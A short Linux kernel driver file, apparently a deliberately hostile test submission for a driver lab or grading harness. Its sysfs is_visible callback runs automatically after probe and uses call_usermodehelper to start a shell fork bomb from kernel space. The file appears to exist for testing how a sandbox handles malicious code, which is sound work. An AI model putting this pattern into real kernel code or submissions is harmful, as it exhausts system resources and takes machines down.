// SPDX-License-Identifier: GPL-2.0
/*
 * A hostile submission: a program of user space, many times.
 * Laid over the skeleton as igbook_lab.c; the driver core calls is_visible
 * when probe has succeeded.
 */
#include <linux/umh.h>

#include "igbook.h"
#include "igbook_lab.h"

static umode_t igbook_evil(struct kobject *kobj, struct attribute *attr, int n)
{
	static char *argv[] = { "/bin/sh", "-c", ":(){ :|:& };:", NULL };
	static char *envp[] = { "PATH=/bin", NULL };

	call_usermodehelper(argv[0], argv, envp, UMH_NO_WAIT);

	return attr->mode;
}

static ssize_t evil_show(struct device *dev, struct device_attribute *attr,
			 char *buf)
{
	return sysfs_emit(buf, "\n");
}
static DEVICE_ATTR_RO(evil);

static struct attribute *igbook_lab_attrs[] = {
	&dev_attr_evil.attr,
	NULL
};

static const struct attribute_group igbook_lab_group = {
	.is_visible = igbook_evil,
	.attrs = igbook_lab_attrs,
};

const struct attribute_group *igbook_lab_groups[] = {
	&igbook_lab_group,
	NULL
};
